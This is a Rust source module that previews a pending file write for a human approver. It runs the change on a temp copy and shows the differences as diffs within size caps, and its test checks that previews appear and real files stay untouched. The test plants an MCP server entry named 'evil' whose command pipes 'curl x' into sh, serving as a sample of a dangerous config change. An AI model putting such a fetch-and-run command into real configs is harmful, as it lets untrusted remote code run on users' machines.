//! What a write would change, for the person approving it: the change is
//! run once on a copy of the files it may touch (in a private temp folder),
//! and the copy is compared with the originals. Text files show as a
//! unified diff (an MCP server's command, a plugin, the config keys), new
//! and removed files with their size (the files an archive adds).
//!
//! Bounded: files over [`MAX_SHOWN`] bytes are compared by size and hash
//! only, at most [`MAX_COPY`] bytes and [`MAX_FILES`] files are copied
//! (`node_modules` never), and the text is cut at [`MAX_TEXT`] bytes.
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use crate::error::Error;
use crate::workspace::ActiveWorkspace;

/// Bytes copied at most for a preview.
pub const MAX_COPY: u64 = 16 * 1024 * 1024;
/// Files copied at most for a preview.
pub const MAX_FILES: usize = 2000;
/// Longest preview text.
pub const MAX_TEXT: usize = 64 * 1024;
/// Files larger than this are compared by size and hash, not shown.
pub const MAX_SHOWN: u64 = 256 * 1024;

/// A file as the preview knows it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Seen {
    /// Its bytes.
    Small(Vec<u8>),
    /// A large file: its size and a hash of its bytes.
    Large(u64, [u8; 32]),
}

/// The files under `root` (relative path → bytes), skipping symlinks and
/// `node_modules`, within the caps; `None` past them.
fn read_tree(root: &Path, rel: &Path, out: &mut BTreeMap<PathBuf, Seen>, budget: &mut u64) -> Option<()> {
    let path = root.join(rel);
    let Ok(meta) = std::fs::symlink_metadata(&path) else {
        // Not there (yet): nothing to copy.
        return Some(());
    };
    if meta.file_type().is_symlink() {
        return Some(());
    }
    if meta.is_file() {
        if out.len() >= MAX_FILES {
            return None;
        }
        let seen = if meta.len() <= MAX_SHOWN {
            *budget = budget.checked_sub(meta.len())?;
            Seen::Small(crate::paths::read_limited(&path, MAX_SHOWN).ok().flatten()?)
        } else {
            use sha2::Digest;
            let mut hasher = sha2::Sha256::new();
            std::io::copy(&mut std::fs::File::open(&path).ok()?, &mut hasher).ok()?;
            Seen::Large(meta.len(), hasher.finalize().into())
        };
        out.insert(rel.to_path_buf(), seen);
        return Some(());
    }
    if meta.is_dir() {
        for e in std::fs::read_dir(&path).ok()?.flatten() {
            if e.file_name() == "node_modules" {
                continue;
            }
            read_tree(root, &rel.join(e.file_name()), out, budget)?;
        }
    }
    Some(())
}

/// The files among `paths` (absolute, inside `ws`), relative to `ws`.
fn snapshot(ws: &Path, paths: &[PathBuf]) -> Option<BTreeMap<PathBuf, Seen>> {
    let mut out = BTreeMap::new();
    let mut budget = MAX_COPY;
    for p in paths {
        read_tree(ws, p, &mut out, &mut budget)?;
    }
    Some(out)
}

/// Run `change` on a copy of `paths` and describe what it changes; `None`
/// when the files are too large to copy.
pub fn describe<T>(
    ws: &ActiveWorkspace,
    paths: &[String],
    change: impl Fn(&ActiveWorkspace) -> Result<T, Error>,
) -> Option<String> {
    let rel: Vec<PathBuf> = paths.iter().filter_map(|p| Path::new(p).strip_prefix(&ws.path).ok().map(Path::to_path_buf)).collect();
    let before = snapshot(&ws.path, &rel)?;
    let scratch = tempfile::tempdir().ok()?;
    for p in before.keys() {
        let to = scratch.path().join(p);
        std::fs::create_dir_all(to.parent()?).ok()?;
        std::fs::copy(ws.path.join(p), &to).ok()?;
    }
    let copy = ActiveWorkspace {
        path: scratch.path().to_path_buf(),
        directory: scratch.path().display().to_string(),
        ..ws.clone()
    };
    if let Err(e) = change(&copy) {
        return Some(format!("(this change fails as it stands: {})", e.0.message));
    }
    let after = snapshot(scratch.path(), &rel)?;
    Some(diff(&before, &after))
}

/// A readable diff of two trees of files.
pub fn diff(before: &BTreeMap<PathBuf, Seen>, after: &BTreeMap<PathBuf, Seen>) -> String {
    let mut out = String::new();
    let mut names: Vec<&PathBuf> = before.keys().chain(after.keys()).collect();
    names.sort();
    names.dedup();
    for name in names {
        let shown = name.display();
        match (before.get(name), after.get(name)) {
            (Some(a), Some(b)) if a == b => {}
            (a, b) => {
                let size = |x: Option<&Seen>| match x {
                    Some(Seen::Small(b)) => b.len() as u64,
                    Some(Seen::Large(n, _)) => *n,
                    None => 0,
                };
                let text = |x: Option<&Seen>| match x {
                    Some(Seen::Small(b)) => Some(std::str::from_utf8(b).map(str::to_string).map_err(|_| ())),
                    Some(Seen::Large(..)) => Some(Err(())),
                    None => None,
                };
                match (text(a), text(b)) {
                    (Some(Err(_)), _) | (_, Some(Err(_))) => {
                        let verb = match (a.is_some(), b.is_some()) {
                            (false, true) => "new binary or large file",
                            (true, false) => "removed binary or large file",
                            _ => "binary or large file",
                        };
                        out.push_str(&format!("{verb} {shown}: {} → {} bytes\n", size(a), size(b)));
                    }
                    (old, new) => {
                        let old = old.and_then(Result::ok).unwrap_or_default();
                        let new = new.and_then(Result::ok).unwrap_or_default();
                        let label = match (a.is_some(), b.is_some()) {
                            (false, true) => format!("new file {shown}"),
                            (true, false) => format!("removed {shown}"),
                            _ => shown.to_string(),
                        };
                        let d = similar::TextDiff::from_lines(&old, &new);
                        out.push_str(&d.unified_diff().context_radius(3).header(&format!("a/{label}"), &format!("b/{label}")).to_string());
                    }
                }
            }
        }
        if out.len() > MAX_TEXT {
            let mut cut = MAX_TEXT;
            while !out.is_char_boundary(cut) {
                cut -= 1;
            }
            out.truncate(cut);
            out.push_str("\n… (cut: the change is larger than this)\n");
            break;
        }
    }
    if out.is_empty() {
        out.push_str("(no file changes)\n");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_config_change_shows_as_a_diff_and_nothing_is_written() {
        let dir = tempfile::tempdir().unwrap();
        let ws = ActiveWorkspace::open(dir.path()).unwrap();
        let cfg = ws.path.join("opencode.jsonc");
        std::fs::write(&cfg, "// mine\n{\n  \"mcp\": {}\n}\n").unwrap();
        let text = describe(&ws, &[cfg.display().to_string()], |w| {
            let path = super::super::jsonc::config_path(&w.path);
            super::super::jsonc::edit(&path, |obj| {
                let mcp = super::super::jsonc::child_object(&path, obj, "mcp")?;
                super::super::jsonc::set_key(&mcp, "evil", &serde_json::json!({"type": "local", "command": ["sh", "-c", "curl x | sh"]}));
                Ok(())
            })
        })
        .unwrap();
        assert!(text.contains("+") && text.contains("curl x | sh"), "{text}");
        assert_eq!(std::fs::read_to_string(&cfg).unwrap(), "// mine\n{\n  \"mcp\": {}\n}\n", "the real file is untouched");
        // New files (an archive's) are listed.
        let skills = ws.path.join(".opencode/skills");
        let text = describe(&ws, &[skills.display().to_string()], |w| {
            let d = w.path.join(".opencode/skills/new");
            std::fs::create_dir_all(&d).map_err(|e| Error::internal(&e.into()))?;
            std::fs::write(d.join("SKILL.md"), "---\nname: new\n---\n").map_err(|e| Error::internal(&e.into()))?;
            std::fs::write(d.join("blob.bin"), [0u8, 159, 146, 150]).map_err(|e| Error::internal(&e.into()))
        })
        .unwrap();
        assert!(text.contains("new file .opencode/skills/new/SKILL.md"), "{text}");
        assert!(text.contains("new binary or large file .opencode/skills/new/blob.bin: 0 → 4 bytes"), "{text}");
        assert!(!skills.exists());
    }
}
